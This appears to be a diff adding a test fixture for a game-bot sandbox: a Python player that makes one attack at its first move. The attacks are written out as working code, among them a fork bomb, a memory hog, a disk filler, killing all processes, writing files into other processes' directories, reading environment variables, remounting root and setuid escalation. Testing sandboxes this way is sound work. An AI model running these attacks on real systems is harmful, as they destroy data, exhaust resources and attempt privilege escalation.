@@ -1,0 +1,171 @@
+"""A hostile Twenty-one player: plays "1" every move, and at its first move tries one attack.
+
+    attacker.py ATTACK TOKEN [ARG ...]
+
+What each attempt achieved is written to stderr as ``ATTACK: ...`` lines, so
+a test can read it from the record's log. Attacks that are meant to make the
+bot lose (fork bomb, memory hog, disk filler) never answer after starting.
+"""
+
+import contextlib
+import ctypes
+import os
+import signal
+import socket
+import sys
+import time
+
+attack, token, args = sys.argv[1], sys.argv[2], sys.argv[3:]
+
+
+def say(text):
+    print(f"ATTACK: {text}", file=sys.stderr, flush=True)
+
+
+def spawn(body):
+    """Run ``body`` in a double-forked setsid grandchild, as a daemon would."""
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            try:
+                body()
+            finally:
+                os._exit(0)
+        os._exit(0)
+    os.wait()
+
+
+def forever_sleeping():
+    os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(3600)", token])
+
+
+def heartbeat():
+    while True:
+        print(f"BEAT {time.monotonic():.6f}", file=sys.stderr, flush=True)
+        end = time.monotonic() + 0.005
+        while time.monotonic() < end:
+            pass
+
+
+def tcp():
+    port = int(args[0])
+    try:
+        with socket.create_connection(("127.0.0.1", port), timeout=0.5):
+            say("connected")
+    except OSError as exc:
+        say(f"connect failed: {exc}")
+
+
+def write_everywhere():
+    targets = list(args)
+    for entry in os.listdir("/proc"):
+        if entry.isdigit() and int(entry) != os.getpid():
+            targets.append(f"/proc/{entry}/cwd")
+            targets.append(f"/proc/{entry}/root/tmp")
+    for folder in targets:
+        try:
+            with open(os.path.join(folder, f"pwned-{token}"), "w") as f:
+                f.write("pwned")
+            say(f"wrote into {folder}")
+        except OSError as exc:
+            say(f"write into {folder} failed: {exc.strerror}")
+
+
+def kill_everyone():
+    killed = []
+    for entry in os.listdir("/proc"):
+        if entry.isdigit() and int(entry) != os.getpid():
+            with contextlib.suppress(OSError):
+                os.kill(int(entry), signal.SIGKILL)
+                killed.append(entry)
+    with contextlib.suppress(OSError):
+        os.kill(-1, signal.SIGKILL)
+    with contextlib.suppress(OSError):
+        os.kill(os.getppid(), signal.SIGKILL)
+    say(f"signalled {killed} and -1; my parent is {os.getppid()}")
+
+
+def fork_bomb():
+    while True:
+        with contextlib.suppress(OSError):
+            if os.fork() == 0:
+                time.sleep(3600)
+                os._exit(0)
+
+
+def memory_hog():
+    hoard = []
+    while True:
+        hoard.append(bytearray(16 << 20))
+
+
+def disk_filler():
+    home = os.environ.get("HOME", ".")
+    n = 0
+    while True:
+        with contextlib.suppress(OSError), open(os.path.join(home, f"fill-{n}"), "wb") as f:
+            f.write(b"x" * (1 << 20))
+        n += 1
+
+
+def big_file():
+    signal.signal(signal.SIGXFSZ, signal.SIG_DFL)  # as a native program has it (Python ignores it)
+    with open(os.path.join(os.environ.get("HOME", "."), "big"), "wb") as f:
+        while True:
+            f.write(b"x" * (1 << 20))
+
+
+def snoop():
+    for path in args:
+        try:
+            say(f"listing {path}: {os.listdir(path)}")
+        except OSError as exc:
+            say(f"listing {path} failed: {exc.strerror}")
+    say(f"environment: {sorted(os.environ)}")
+
+
+def escalate():
+    libc = ctypes.CDLL(None, use_errno=True)
+    if libc.mount(b"none", b"/", None, 32, None) == 0:  # MS_REMOUNT: writable again?
+        say("remounted /")
+    else:
+        say(f"remount failed: {os.strerror(ctypes.get_errno())}")
+    try:
+        with open("/proc/sys/kernel/hostname", "w") as f:
+            f.write("pwned")
+        say("wrote /proc/sys")
+    except OSError as exc:
+        say(f"write /proc/sys failed: {exc.strerror}")
+    try:
+        os.setuid(12345)
+        os.setuid(0)
+        say("changed uid back to 0")
+    except OSError as exc:
+        say(f"setuid failed: {exc.strerror}")
+    with open("/proc/self/status") as f:
+        say(" ".join(line.strip() for line in f if line.startswith("CapEff")))
+
+
+ATTACKS = {
+    "setsid_child": lambda: spawn(forever_sleeping),
+    "compute_while_idle": lambda: spawn(heartbeat),
+    "tcp": tcp,
+    "write_everywhere": write_everywhere,
+    "kill_everyone": kill_everyone,
+    "fork_bomb": fork_bomb,
+    "memory_hog": memory_hog,
+    "disk_filler": disk_filler,
+    "big_file": big_file,
+    "snoop": snoop,
+    "escalate": escalate,
+}
+
+sys.stdin.readline()  # the start number
+attacked = False
+for line in sys.stdin:
+    if line.strip() == "Quit":
+        break
+    if not attacked:
+        attacked = True
+        ATTACKS[attack]()
+    print("1", flush=True)
